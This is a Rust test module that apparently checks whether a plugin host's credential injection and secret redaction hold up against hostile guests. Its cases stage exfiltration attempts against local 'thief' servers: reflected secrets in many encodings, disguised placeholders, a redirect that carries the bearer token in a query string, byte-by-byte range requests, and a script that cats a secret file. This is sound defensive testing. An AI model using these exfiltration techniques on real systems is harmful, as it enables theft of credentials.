//! Getting hold of a secret: servers that send back what the host added, placeholders sent to somebody else, errors,
//! redirects, slices; and a hunter that looks through its own memory after every kind of call.
//!
//! This is the planted secret within one host. Through the whole of the product (journal, tapes, log, terminal, JSON
//! stream, notifications) it is planted in `tests/e2e/tests/secrets.rs`.

use super::doors::Door;
use crate::case::{Case, Outcome};
use crate::ensure;
use crate::lab::{Lab, check, notify, patient, report, request, script};
use crate::server::{Arrived, Server, reply};
use basb_core::PluginName;
use basb_credentials::{Credentials, CredentialsConfig, placeholder};
use basb_guest_script::{Hunt, Request, Script, Step};
use basb_redact::{Redactor, SecretValue};
use basb_runtime::{Kind, LoadRequest, Plugin, Runtime};
use basb_secrets::{Environment, Secrets, SecretsConfig};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE_NO_PAD};
use flate2::Compression;
use flate2::write::GzEncoder;
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::io::Write as _;
use std::os::unix::fs::PermissionsExt as _;
use std::sync::Arc;

/// The secrets: their names, and values that look different in every encoding.
const SECRETS: [(&str, &str); 3] = [
    ("token", "tok_9fQ/+\\x&=7z\"planted"),
    ("hook", "T00/B11/x+y==&hook-planted"),
    ("key", "k3y'<quoted>\"/+planted-too"),
];

/// What the servers say besides, so that it can be seen that the hunter finds what is there.
const CONTROL: &str = "control-word-that-is-no-secret";

/// How a server sends back what it was sent.
const WAYS: [&str; 11] =
    ["raw", "base64", "base64-url", "url", "json", "json-json", "hex", "gzip", "chunked", "headers", "location"];

pub fn cases() -> Vec<Case> {
    let mut all: Vec<Case> = Door::BOTH.into_iter().flat_map(of).collect();
    all.extend([
        Case::new("secret-in-program", "a program that prints a secret, and placeholders in its arguments", program),
        Case::new("secret-in-file", "a file that holds a secret", file),
        Case::new("secret-over-tcp", "a server that sends a secret over TCP, whole and cut off", tcp),
        Case::new(
            "secret-hunter-notifier",
            "looks through its memory after files, mail, http and the log",
            hunt_notifier,
        ),
    ]);
    all
}

fn of(door: Door) -> Vec<Case> {
    let name = |what: &str| format!("{}-secret-{what}", door.prefix());
    vec![
        Case::new(name("echo"), "servers that send back what the host added, in every encoding", move |lab| {
            echo(lab, door)
        }),
        Case::new(
            name("elsewhere"),
            "placeholders in requests to a host that the secret is not bound to",
            move |lab| elsewhere(lab, door),
        ),
        Case::new(name("disguised"), "placeholders in other encodings, and in odd places", move |lab| {
            disguised(lab, door)
        }),
        Case::new(name("not-given"), "a placeholder of a secret that the plugin was not given", move |lab| {
            not_given(lab, door)
        }),
        Case::new(name("redirect"), "a redirect to a thief, and a guest that follows it", move |lab| {
            redirect(lab, door)
        }),
        Case::new(
            name("in-error"),
            "secrets in answers that are no answers, and in requests that find nobody",
            move |lab| in_error(lab, door),
        ),
        Case::new(name("unsearchable"), "a secret in an encoding that the host cannot look into", move |lab| {
            unsearchable(lab, door)
        }),
        Case::new(name("slices"), "a secret slice by slice, by asking for ranges", move |lab| slices(lab, door)),
        Case::new(name("hunter"), "looks through its memory after every kind of call", move |lab| {
            hunt_probe(lab, door)
        }),
    ]
}

/// A host that has the secrets; each is bound to `port` on this machine, and to nothing else.
fn planted(lab: &Lab, port: u16) -> Runtime {
    let redactor = Redactor::default();
    let runtime = lab.runtime_with(|options| options.redactor = redactor.clone());
    let transport = runtime.capabilities().transport();
    let items: serde_json::Map<String, Value> =
        SECRETS.iter().map(|(name, _)| ((*name).to_owned(), json!({"store": "env", "key": variable(name)}))).collect();
    let values: BTreeMap<String, SecretValue> =
        SECRETS.iter().map(|(name, value)| (variable(name), SecretValue::new(*value))).collect();
    let secrets = Secrets::with_environment(
        SecretsConfig::parse(&Value::Null, &Value::Object(items)).unwrap(),
        lab.base().to_owned(),
        Arc::clone(&transport),
        redactor,
        Environment::Fixed(Arc::new(values)),
    );
    let to = json!([{"host": "127.0.0.1", "scheme": "http", "port": port}]);
    let config = CredentialsConfig::parse(&json!({
        "api": {"to": to, "bearer": "token"},
        "webhook": {"to": to, "placeholder": "hook"},
        "own-key": {"to": to, "header": {"name": "x-key", "value": "key"}},
    }));
    let credentials = Credentials::new(config.unwrap(), Arc::new(secrets), transport);
    runtime.capabilities().use_credentials(Arc::new(credentials));
    runtime
}

fn variable(secret: &str) -> String {
    format!("PLANTED_{}", secret.to_uppercase())
}

/// The placeholder of the webhook.
fn hook() -> String {
    placeholder::of(&PluginName::new("hook").unwrap())
}

/// The scripted guest of a door, with these credentials.
fn guest(lab: &Lab, runtime: &Runtime, door: Door, more: &Value, credentials: &[&str]) -> Plugin {
    let package = match door {
        Door::Host => "guest-hostile-probe",
        Door::Wasi => "guest-hostile-wasi",
    };
    let mut grants = match door {
        Door::Host => json!({
            "tcp": [{"host": "nowhere.invalid", "port": 1}],
            "exec": [{"program": "nothing", "path": "/nonexistent"}],
        }),
        Door::Wasi => json!({}),
    };
    grants.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    let credentials = credentials.iter().map(|name| PluginName::new(*name).unwrap()).collect();
    let request = LoadRequest { credentials, ..request(Kind::Probe, &grants) };
    runtime.load_blocking(&lab.guest(package), request).unwrap()
}

fn all_methods(ports: &[u16]) -> Value {
    let one = |port: &u16| json!({"host": "127.0.0.1", "scheme": "http", "port": port, "methods": ["GET", "POST"]});
    json!({ "http": ports.iter().map(one).collect::<Vec<_>>() })
}

/// Every form of a secret that must not be seen, with a name.
fn forms(secret: &str) -> Vec<(&'static str, Vec<u8>)> {
    let bytes = secret.as_bytes();
    let mut all = vec![("raw", bytes.to_vec())];
    all.push(("first-half", bytes[..bytes.len() / 2].to_vec()));
    all.push(("second-half", bytes[bytes.len() / 2..].to_vec()));
    for skip in 0..3 {
        let shifted: Vec<u8> = std::iter::repeat_n(b'x', skip).chain(bytes.iter().copied()).collect();
        // What its neighbours have a part in is left out at both ends.
        let from = [0, 2, 3][skip];
        let whole = shifted.len() / 3 * 4;
        all.push(("base64", STANDARD_NO_PAD.encode(&shifted).as_bytes()[from..whole].to_vec()));
        all.push(("base64-url", URL_SAFE_NO_PAD.encode(&shifted).as_bytes()[from..whole].to_vec()));
    }
    let url = utf8_percent_encode(secret, NON_ALPHANUMERIC).to_string();
    all.push(("url-lower", url.to_lowercase().into_bytes()));
    all.push(("url", url.into_bytes()));
    let json = serde_json::to_string(secret).unwrap();
    all.push(("json", json.trim_matches('"').as_bytes().to_vec()));
    all.push(("hex", basb_guest_script::hex(bytes).into_bytes()));
    all
}

/// The first form of a secret that is in a text.
fn leak(text: &str) -> Result<(), String> {
    for (name, secret) in SECRETS {
        for (form, bytes) in forms(secret) {
            let found = text.as_bytes().windows(bytes.len()).any(|window| window == bytes);
            ensure!(!found, "the secret `{name}` is there ({form}): {:.600}", text);
        }
    }
    Ok(())
}

/// What the hunter looks for: every form of every secret, and a word that it must find where a server said it.
fn hunting() -> Hunt {
    let key = Hunt { key: "a7c35e91f20b6d84193fe6507ab4d82c".to_owned(), ..Hunt::default() };
    let all = SECRETS.iter().flat_map(|(name, secret)| forms(secret).into_iter().map(move |form| (name, form)));
    all.fold(key.with("control", CONTROL.as_bytes()), |hunt, (name, (form, bytes))| {
        hunt.with(&format!("{name} ({form})"), &bytes)
    })
}

/// The server that sends everything back.
async fn reflecting() -> Server {
    Server::answering(reflect).await
}

fn reflect(arrived: &Arrived) -> Vec<u8> {
    let all = format!("{CONTROL}\n{}{}", arrived.head, String::from_utf8_lossy(&arrived.body));
    let way = arrived.target().trim_start_matches('/').split(['/', '?']).next().unwrap_or_default().to_owned();
    let authorization = arrived.header("authorization").unwrap_or_default().to_owned();
    match way.as_str() {
        "base64" => reply(200, "", STANDARD.encode(&all).as_bytes()),
        "base64-url" => reply(200, "", URL_SAFE_NO_PAD.encode(&all).as_bytes()),
        "url" => reply(200, "", utf8_percent_encode(&all, NON_ALPHANUMERIC).to_string().as_bytes()),
        "json" => reply(200, "", json!({ "you": all }).to_string().as_bytes()),
        "json-json" => reply(200, "", json!({ "you": json!([all]).to_string() }).to_string().as_bytes()),
        "hex" => reply(200, "", basb_guest_script::hex(all.as_bytes()).as_bytes()),
        "gzip" => reply(200, "content-encoding: gzip\r\n", &gzip(all.as_bytes())),
        "chunked" => {
            let mut out = b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n".to_vec();
            for byte in all.bytes() {
                out.extend_from_slice(b"1\r\n");
                out.push(byte);
                out.extend_from_slice(b"\r\n");
            }
            out.extend_from_slice(b"0\r\n\r\n");
            out
        }
        "headers" => reply(200, &format!("x-echo: {authorization}\r\nset-cookie: a={authorization}; path=/\r\n"), b""),
        "location" => {
            let url = utf8_percent_encode(&authorization, NON_ALPHANUMERIC).to_string();
            reply(302, &format!("location: /raw?token={url}\r\n"), b"")
        }
        _ => reply(200, "", all.as_bytes()),
    }
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// A request that carries the placeholder everywhere.
fn loaded(url: String) -> Request {
    Request {
        method: "POST".to_owned(),
        url,
        headers: vec![("x-hook".to_owned(), hook()), ("content-type".to_owned(), "application/json".to_owned())],
        body: format!("{{\"url\":\"{}\"}}", hook()),
        ..Request::default()
    }
}

/// Has a guest do something; nothing that it or the host tells of it may hold a secret.
async fn play(plugin: &Plugin, told: &Script) -> Result<Vec<basb_guest_script::Seen>, String> {
    let config = serde_json::to_string(told).unwrap();
    leak(&config).map_err(|why| format!("the script itself is no good: {why}"))?;
    let called = match check(plugin, &patient(), &config, "http://target.invalid").await {
        Ok(called) => called,
        Err(error) => {
            leak(&format!("{error} {error:?}"))?;
            return Err(error.to_string());
        }
    };
    leak(&called.value.summary)?;
    leak(&format!("{:?}", called.report))?;
    Ok(report(&called.value.summary).steps)
}

async fn echo(lab: Arc<Lab>, door: Door) -> Outcome {
    let server = reflecting().await;
    let runtime = planted(&lab, server.port);
    let plugin = guest(&lab, &runtime, door, &all_methods(&[server.port]), &["api", "webhook", "own-key"]);
    let steps = WAYS.iter().map(|way| Step::Http(loaded(server.url(&format!("/{way}/{}?q={}", hook(), hook())))));
    let seen = play(&plugin, &script(steps.collect())).await?;
    for (way, one) in WAYS.iter().zip(&seen) {
        ensure!(one.outcome.kind() == "ok", "{way}: {:?}", one.outcome);
    }
    // The secrets did go out, so it is not for want of them that nothing came back.
    let arrived = server.seen();
    ensure!(arrived.len() == WAYS.len(), "{}", server.told());
    for one in &arrived {
        ensure!(
            one.header("authorization").is_some_and(|value| value.contains(SECRETS[0].1)),
            "no token: {}",
            one.head
        );
        ensure!(one.header("x-key") == Some(SECRETS[2].1), "no key: {}", one.head);
        ensure!(String::from_utf8_lossy(&one.body).contains("hook-planted"), "no hook: {:?}", one.body);
    }
    Ok(format!("{} ways to send it back: {:.300}", WAYS.len(), seen[0].outcome.text()))
}

/// Sends requests to a server that is granted, but to which no secret is bound. None may arrive with a placeholder or a
/// secret in it.
async fn to_thief(lab: &Arc<Lab>, door: Door, requests: impl Fn(&Server) -> Vec<Request>) -> Outcome {
    let (server, thief) = (reflecting().await, reflecting().await);
    let runtime = planted(lab, server.port);
    let plugin = guest(lab, &runtime, door, &all_methods(&[server.port, thief.port]), &["api", "webhook", "own-key"]);
    // The secret is known to the host before: it was used where it belongs.
    play(&plugin, &script(vec![Step::Http(loaded(server.url("/raw")))])).await?;
    let requests = requests(&thief);
    let seen = play(&plugin, &script(requests.iter().cloned().map(Step::Http).collect())).await?;
    let mut last = String::new();
    for (request, one) in requests.iter().zip(&seen) {
        last = door.stopped(&one.outcome, &plugin, &[]).map_err(|why| format!("{request:?}: {why}"))?;
    }
    ensure!(thief.seen().is_empty(), "the thief was reached: {}", thief.told());
    Ok(format!("{} requests, the last one: {last}", requests.len()))
}

async fn elsewhere(lab: Arc<Lab>, door: Door) -> Outcome {
    to_thief(&lab, door, |thief| {
        vec![
            loaded(thief.url("/raw")),
            Request::get(thief.url(&format!("/{}", hook()))),
            Request::get(thief.url(&format!("/?q={}", hook()))),
            Request::get(thief.url(&format!("/?{}=1", hook()))),
            Request { headers: vec![("x-a".to_owned(), hook())], ..Request::get(thief.url("/")) },
            Request {
                headers: vec![("authorization".to_owned(), format!("Bearer {}", hook()))],
                ..Request::get(thief.url("/"))
            },
            Request { headers: vec![("cookie".to_owned(), format!("a={}", hook()))], ..Request::get(thief.url("/")) },
            Request { method: "POST".to_owned(), body: hook(), ..Request::get(thief.url("/")) },
            Request {
                method: "POST".to_owned(),
                body: format!("x{}{}", hook(), hook()),
                ..Request::get(thief.url("/"))
            },
        ]
    })
    .await
}

async fn disguised(lab: Arc<Lab>, door: Door) -> Outcome {
    to_thief(&lab, door, |thief| {
        let encoded = hook().replace('_', "%5F");
        vec![
            Request::get(thief.url(&format!("/{encoded}"))),
            Request::get(thief.url(&format!("/?q={encoded}"))),
            Request::get(thief.url(&format!("/?q={}", hook().replace("basb", "%62asb")))),
            Request { method: "POST".to_owned(), body: hook().replace('_', "\\u005f"), ..Request::get(thief.url("/")) },
            Request::get(format!("http://{}:{}/", hook(), thief.port)),
            Request::get(format!("http://{}@127.0.0.1:{}/", hook(), thief.port)),
            Request { headers: vec![(hook(), "1".to_owned())], ..Request::get(thief.url("/")) },
        ]
    })
    .await
}

async fn not_given(lab: Arc<Lab>, door: Door) -> Outcome {
    let server = reflecting().await;
    let runtime = planted(&lab, server.port);
    let plugin = guest(&lab, &runtime, door, &all_methods(&[server.port]), &[]);
    let seen = play(
        &plugin,
        &script(vec![Step::Http(loaded(server.url("/raw"))), Step::Http(Request::get(server.url("/raw")))]),
    )
    .await?;
    let text = door.stopped(&seen[0].outcome, &plugin, &[])?;
    let arrived = server.seen();
    ensure!(arrived.len() == 1, "{}", server.told());
    ensure!(
        arrived[0].header("authorization").is_none() && arrived[0].header("x-key").is_none(),
        "{}",
        arrived[0].head
    );
    Ok(text)
}

async fn redirect(lab: Arc<Lab>, door: Door) -> Outcome {
    let thief = reflecting().await;
    let to = thief.url("/stolen");
    let server = Server::answering(move |arrived| {
        let secret = arrived.header("authorization").unwrap_or_default();
        let secret = utf8_percent_encode(secret, NON_ALPHANUMERIC).to_string();
        reply(307, &format!("location: {to}?token={secret}\r\n"), b"")
    })
    .await;
    let runtime = planted(&lab, server.port);
    let plugin = guest(&lab, &runtime, door, &all_methods(&[server.port, thief.port]), &["api", "own-key"]);
    let seen = play(&plugin, &script(vec![Step::Follow(Request::get(server.url("/")))])).await?;
    // The thief is granted, so the second hop may arrive; the secret must not.
    leak(&thief.told())?;
    for one in thief.seen() {
        ensure!(one.header("authorization").is_none() && one.header("x-key").is_none(), "{}", one.head);
    }
    Ok(format!("{} hops reached the thief, without a secret: {}", thief.seen().len(), seen[0].outcome.kind()))
}

async fn in_error(lab: Arc<Lab>, door: Door) -> Outcome {
    let mut last = String::new();
    for way in 0..4 {
        let server = Server::answering(move |arrived| {
            let secret = arrived.header("authorization").unwrap_or_default().to_owned();
            match way {
                0 => format!("HTTP/1.1 999 {secret}\r\n\r\n").into_bytes(),
                1 => format!("{secret}\r\n\r\n").into_bytes(),
                2 => format!("HTTP/1.1 200 OK\r\n{secret}: x\r\n\r\n").into_bytes(),
                _ => format!("HTTP/1.1 200 OK\r\ncontent-length: {secret}\r\n\r\n").into_bytes(),
            }
        })
        .await;
        let runtime = planted(&lab, server.port);
        let plugin = guest(&lab, &runtime, door, &all_methods(&[server.port]), &["api", "webhook"]);
        let step = Step::Http(Request { timeout: Some(3000), ..loaded(server.url(&format!("/{}", hook()))) });
        last = format!("{:?}", play(&plugin, &script(vec![step])).await?[0].outcome);
    }
    // Nobody listens there any more.
    let port = Server::friendly().await.port;
    let runtime = planted(&lab, port);
    let plugin = guest(&lab, &runtime, door, &all_methods(&[port]), &["api", "webhook"]);
    let url = format!("http://127.0.0.1:{port}/{}?q={}", hook(), hook());
    let seen = play(&plugin, &script(vec![Step::Http(Request { timeout: Some(3000), ..loaded(url) })])).await?;
    Ok(format!("{last}; {:?}", seen[0].outcome))
}

async fn unsearchable(lab: Arc<Lab>, door: Door) -> Outcome {
    let mut last = String::new();
    for encoding in ["br", "zstd", "compress", "gzip, gzip", "gzip, br", "GZIP,GZIP", "x"] {
        let server = Server::answering(move |arrived| {
            let all = gzip(arrived.head.as_bytes());
            reply(200, &format!("content-encoding: {encoding}\r\n"), &all)
        })
        .await;
        let runtime = planted(&lab, server.port);
        let plugin = guest(&lab, &runtime, door, &all_methods(&[server.port]), &["api"]);
        let seen = play(&plugin, &script(vec![Step::Http(Request::get(server.url("/")))])).await?;
        last = door
            .failed(&seen[0].outcome, &["other", "broken", "invalid", "too-large"], &[])
            .map_err(|why| format!("{encoding}: {why}"))?;
    }
    Ok(last)
}

/// A server that knows ranges sends back any part of what it was sent. A part of a secret is not the secret, so nobody
/// finds it in the answer: many parts are the secret.
async fn slices(lab: Arc<Lab>, door: Door) -> Outcome {
    let server = Server::answering(|arrived| {
        let secret = arrived.header("authorization").unwrap_or_default();
        let range = arrived.header("range").and_then(|range| range.strip_prefix("bytes=")?.split_once('-'));
        match range.and_then(|(from, to)| secret.get(from.parse().ok()?..=to.parse().ok()?)) {
            Some(part) => reply(206, "content-range: bytes */*\r\n", part.as_bytes()),
            None => reply(200, "", secret.as_bytes()),
        }
    })
    .await;
    let runtime = planted(&lab, server.port);
    let plugin = guest(&lab, &runtime, door, &all_methods(&[server.port]), &["api"]);
    let steps = (0..SECRETS[0].1.len()).map(|at| {
        let at = at + "Bearer ".len();
        Step::Http(Request {
            headers: vec![("range".to_owned(), format!("bytes={at}-{at}"))],
            ..Request::get(server.url("/"))
        })
    });
    let seen = play(&plugin, &script(steps.collect())).await?;
    let whole: String = seen.iter().map(|one| one.outcome.text()).collect();
    ensure!(!whole.contains(SECRETS[0].1), "the guest put the secret together: one byte of it in each answer");
    Ok(format!("{:.200}", seen[0].outcome.text()))
}

async fn program(lab: Arc<Lab>) -> Outcome {
    let runtime = planted(&lab, 1);
    // Known to the host from its first use on; here it was never used, so it is taught.
    teach(&runtime);
    let path = lab.base().join("tool.sh");
    std::fs::write(lab.base().join("secret.txt"), SECRETS[0].1).unwrap();
    std::fs::write(&path, format!("#!/bin/sh\ncat {0}; base64 {0} >&2\n", lab.base().join("secret.txt").display()))
        .unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    let grants = json!({"http": [{"host": "nowhere.invalid"}], "exec": [{"program": "tool", "path": path, "args": ["**"], "env": ["A"]}]});
    let plugin = guest(&lab, &runtime, Door::Host, &grants, &["webhook"]);
    let run = |args: Vec<String>, env: Vec<(String, String)>, stdin: String| Step::Exec {
        program: "tool".to_owned(),
        args,
        env,
        stdin,
        timeout: 20_000,
    };
    let steps = vec![
        run(Vec::new(), Vec::new(), String::new()),
        run(vec![hook()], Vec::new(), String::new()),
        run(Vec::new(), vec![("A".to_owned(), hook())], String::new()),
        run(Vec::new(), Vec::new(), hook()),
    ];
    let seen = play(&plugin, &script(steps)).await?;
    ensure!(seen[0].outcome.kind() == "ok", "{:?}", seen[0].outcome);
    for one in &seen[1..] {
        crate::expect::denied(&one.outcome, &plugin, "check", &[])?;
    }
    Ok(seen[0].outcome.text().trim().to_owned())
}

/// The host learns all secrets, as it does when it reads them.
fn teach(runtime: &Runtime) {
    for (name, value) in SECRETS {
        let name = PluginName::new(name).unwrap();
        runtime.capabilities().redactor().learn(&name, &SecretValue::new(value)).unwrap();
    }
}

async fn file(lab: Arc<Lab>) -> Outcome {
    let runtime = planted(&lab, 1);
    teach(&runtime);
    std::fs::create_dir(lab.base().join("vault")).unwrap();
    for (name, secret) in SECRETS {
        std::fs::write(lab.base().join(format!("vault/{name}")), format!("a={secret}\n{}", STANDARD.encode(secret)))
            .unwrap();
    }
    let plugin =
        lab.notifier_in(&runtime, &json!({"files": [{"folder": "vault", "path": "./vault", "access": "read"}]}));
    let steps = SECRETS.map(|(name, _)| Step::Read { folder: "vault".to_owned(), path: name.to_owned() });
    let called = notify(&plugin, &patient(), &script(steps.to_vec())).await.map_err(|error| error.to_string())?;
    let summary = called.value.map_err(|failure| failure.message)?.summary;
    leak(&summary)?;
    let steps = report(&summary).steps;
    ensure!(steps.iter().all(|one| one.outcome.kind() == "ok"), "{steps:?}");
    Ok(steps[0].outcome.text().to_owned())
}

async fn tcp(lab: Arc<Lab>) -> Outcome {
    let server = Server::answering(|_| format!("{}\n", SECRETS[0].1).into_bytes()).await;
    let runtime = planted(&lab, 1);
    teach(&runtime);
    let grants = json!({"http": [{"host": "nowhere.invalid"}], "tcp": [{"host": "127.0.0.1", "port": server.port}]});
    let plugin = guest(&lab, &runtime, Door::Host, &grants, &[]);
    // All of it, and all of it but the last bytes: what is cut off is no secret to whoever looks for whole ones.
    let length = u32::try_from(SECRETS[0].1.len()).unwrap();
    let steps = [length + 1, length, length - 1, length - 4].map(|read_limit| Step::Tcp {
        host: "127.0.0.1".to_owned(),
        port: server.port,
        send: "hello\r\n\r\n".to_owned(),
        read_limit,
        timeout: 3000,
    });
    let seen = play(&plugin, &script(steps.to_vec())).await?;
    Ok(seen.iter().map(|one| format!("{:?} ", one.outcome.text())).collect())
}

/// Nothing was found after any step, except the control word after the step that fetched it.
fn hunted(seen: &[basb_guest_script::Seen]) -> Result<(), String> {
    ensure!(!seen.is_empty(), "nothing was done");
    for (number, one) in seen.iter().enumerate() {
        let found: Vec<&String> = one.found.iter().filter(|name| *name != "control").collect();
        ensure!(found.is_empty(), "after step {number}: {found:?}");
    }
    let control = seen.iter().any(|one| one.found.iter().any(|name| name == "control"));
    ensure!(control, "the hunter did not even find the control word: {seen:?}");
    Ok(())
}

async fn hunt_probe(lab: Arc<Lab>, door: Door) -> Outcome {
    let (server, thief) = (reflecting().await, reflecting().await);
    let raw = Server::answering(|_| format!("{CONTROL} {}", SECRETS[0].1).into_bytes()).await;
    let runtime = planted(&lab, server.port);
    let path = lab.base().join("tool.sh");
    std::fs::write(&path, "#!/bin/sh\necho $0 \"$@\"\n").unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut grants = all_methods(&[server.port, thief.port]);
    if door == Door::Host {
        let more = json!({"tcp": [{"host": "127.0.0.1", "port": raw.port}], "exec": [{"program": "tool", "path": path, "args": ["**"]}]});
        grants.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    }
    let plugin = guest(&lab, &runtime, door, &grants, &["api", "webhook", "own-key"]);
    let mut steps: Vec<Step> =
        WAYS.iter().map(|way| Step::Http(loaded(server.url(&format!("/{way}/{}", hook()))))).collect();
    steps.extend([
        Step::HttpMany { requests: vec![loaded(server.url("/raw"))], times: 5 },
        Step::Http(loaded(thief.url("/raw"))),
        Step::Http(Request::get(lab.victim.url("/"))),
        Step::Follow(Request::get(server.url("/location"))),
        Step::Http(Request { timeout: Some(1), ..loaded(server.url("/raw")) }),
        Step::Log { text: hook(), copies: 1 },
        Step::Tcp {
            host: "127.0.0.1".to_owned(),
            port: raw.port,
            send: "x\r\n\r\n".to_owned(),
            read_limit: 1000,
            timeout: 1000,
        },
        Step::Exec {
            program: "tool".to_owned(),
            args: vec!["x".to_owned()],
            env: Vec::new(),
            stdin: String::new(),
            timeout: 5000,
        },
    ]);
    let seen = play(&plugin, &Script { steps, hunt: Some(hunting()), ..Script::default() }).await?;
    hunted(&seen)?;
    Ok(format!("{} steps, and nothing in memory but the control word", seen.len()))
}

async fn hunt_notifier(lab: Arc<Lab>) -> Outcome {
    let runtime = planted(&lab, 1);
    teach(&runtime);
    std::fs::create_dir(lab.base().join("vault")).unwrap();
    std::fs::write(lab.base().join("vault/a"), format!("{CONTROL} {}", SECRETS[0].1)).unwrap();
    let plugin =
        lab.notifier_in(&runtime, &json!({"files": [{"folder": "vault", "path": "./vault", "access": "read-write"}]}));
    let at = |path: &str| ("vault".to_owned(), path.to_owned());
    let ((folder, path), (other, missing)) = (at("a"), at("not-there"));
    let steps = vec![
        Step::Read { folder: folder.clone(), path },
        Step::Read { folder: other, path: missing },
        Step::List { folder: folder.clone(), path: String::new() },
        Step::Write { folder, path: "b".to_owned(), text: hook(), copies: 1, expect: String::new() },
        Step::Http(loaded(lab.victim.url("/"))),
        Step::Mail {
            server: "office".to_owned(),
            from: "a@example.com".to_owned(),
            to: vec!["b@example.com".to_owned()],
            subject: hook(),
            text: hook(),
            headers: Vec::new(),
        },
        Step::Log { text: hook(), copies: 1 },
    ];
    let told = Script { steps, hunt: Some(hunting()), ..Script::default() };
    let called = notify(&plugin, &patient(), &told).await.map_err(|error| error.to_string())?;
    let summary = called.value.map_err(|failure| failure.message)?.summary;
    leak(&summary)?;
    let seen = report(&summary).steps;
    hunted(&seen)?;
    Ok(format!("{} steps, and nothing in memory but the control word", seen.len()))
}
